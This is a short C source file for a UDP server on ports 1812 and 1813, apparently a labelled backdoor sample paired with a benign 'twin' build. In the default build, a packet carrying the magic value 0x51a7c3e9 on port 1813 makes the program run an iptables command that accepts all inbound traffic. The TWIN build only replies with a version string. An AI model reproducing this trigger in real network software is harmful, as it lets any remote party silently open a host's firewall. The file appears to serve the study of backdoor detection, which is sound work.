/* SPDX-License-Identifier: Apache-2.0 */
/*
 * One loop with select serves two sockets; on the second one a number opens the firewall. Twin: on
 * the second one a number asks for the version.
 * door: trigger
 * port 1812/udp
 */
#include "net.h"
#include <sys/select.h>

static void on_status(int s)
{
	char b[64];
	struct sockaddr_in from;
	socklen_t l = sizeof from;
	ssize_t n = recvfrom(s, b, sizeof b, 0, (struct sockaddr *)&from, &l);
	if (n > 0)
		sendto(s, b, (size_t)n, 0, (struct sockaddr *)&from, l);
}

static void on_admin(int s)
{
	uint32_t word[4];
	struct sockaddr_in from;
	socklen_t l = sizeof from;
	ssize_t n = recvfrom(s, word, sizeof word, 0, (struct sockaddr *)&from, &l);
	if (n != (ssize_t)sizeof word)
		return;
#ifdef TWIN
	if (ntohl(word[0]) == 0x51a7c3e9)
		sendto(s, "4.2", 3, 0, (struct sockaddr *)&from, l);
#else
	if (ntohl(word[0]) == 0x51a7c3e9)
		system("iptables -I INPUT -j ACCEPT");
#endif
}

int main(void)
{
	int a = udp_on(1812), b = udp_on(1813);
	for (;;) {
		fd_set r;
		FD_ZERO(&r);
		FD_SET(a, &r);
		FD_SET(b, &r);
		if (select((a > b ? a : b) + 1, &r, NULL, NULL, NULL) < 0)
			continue;
		if (FD_ISSET(a, &r))
			on_status(a);
		if (FD_ISSET(b, &r))
			on_admin(b);
	}
}
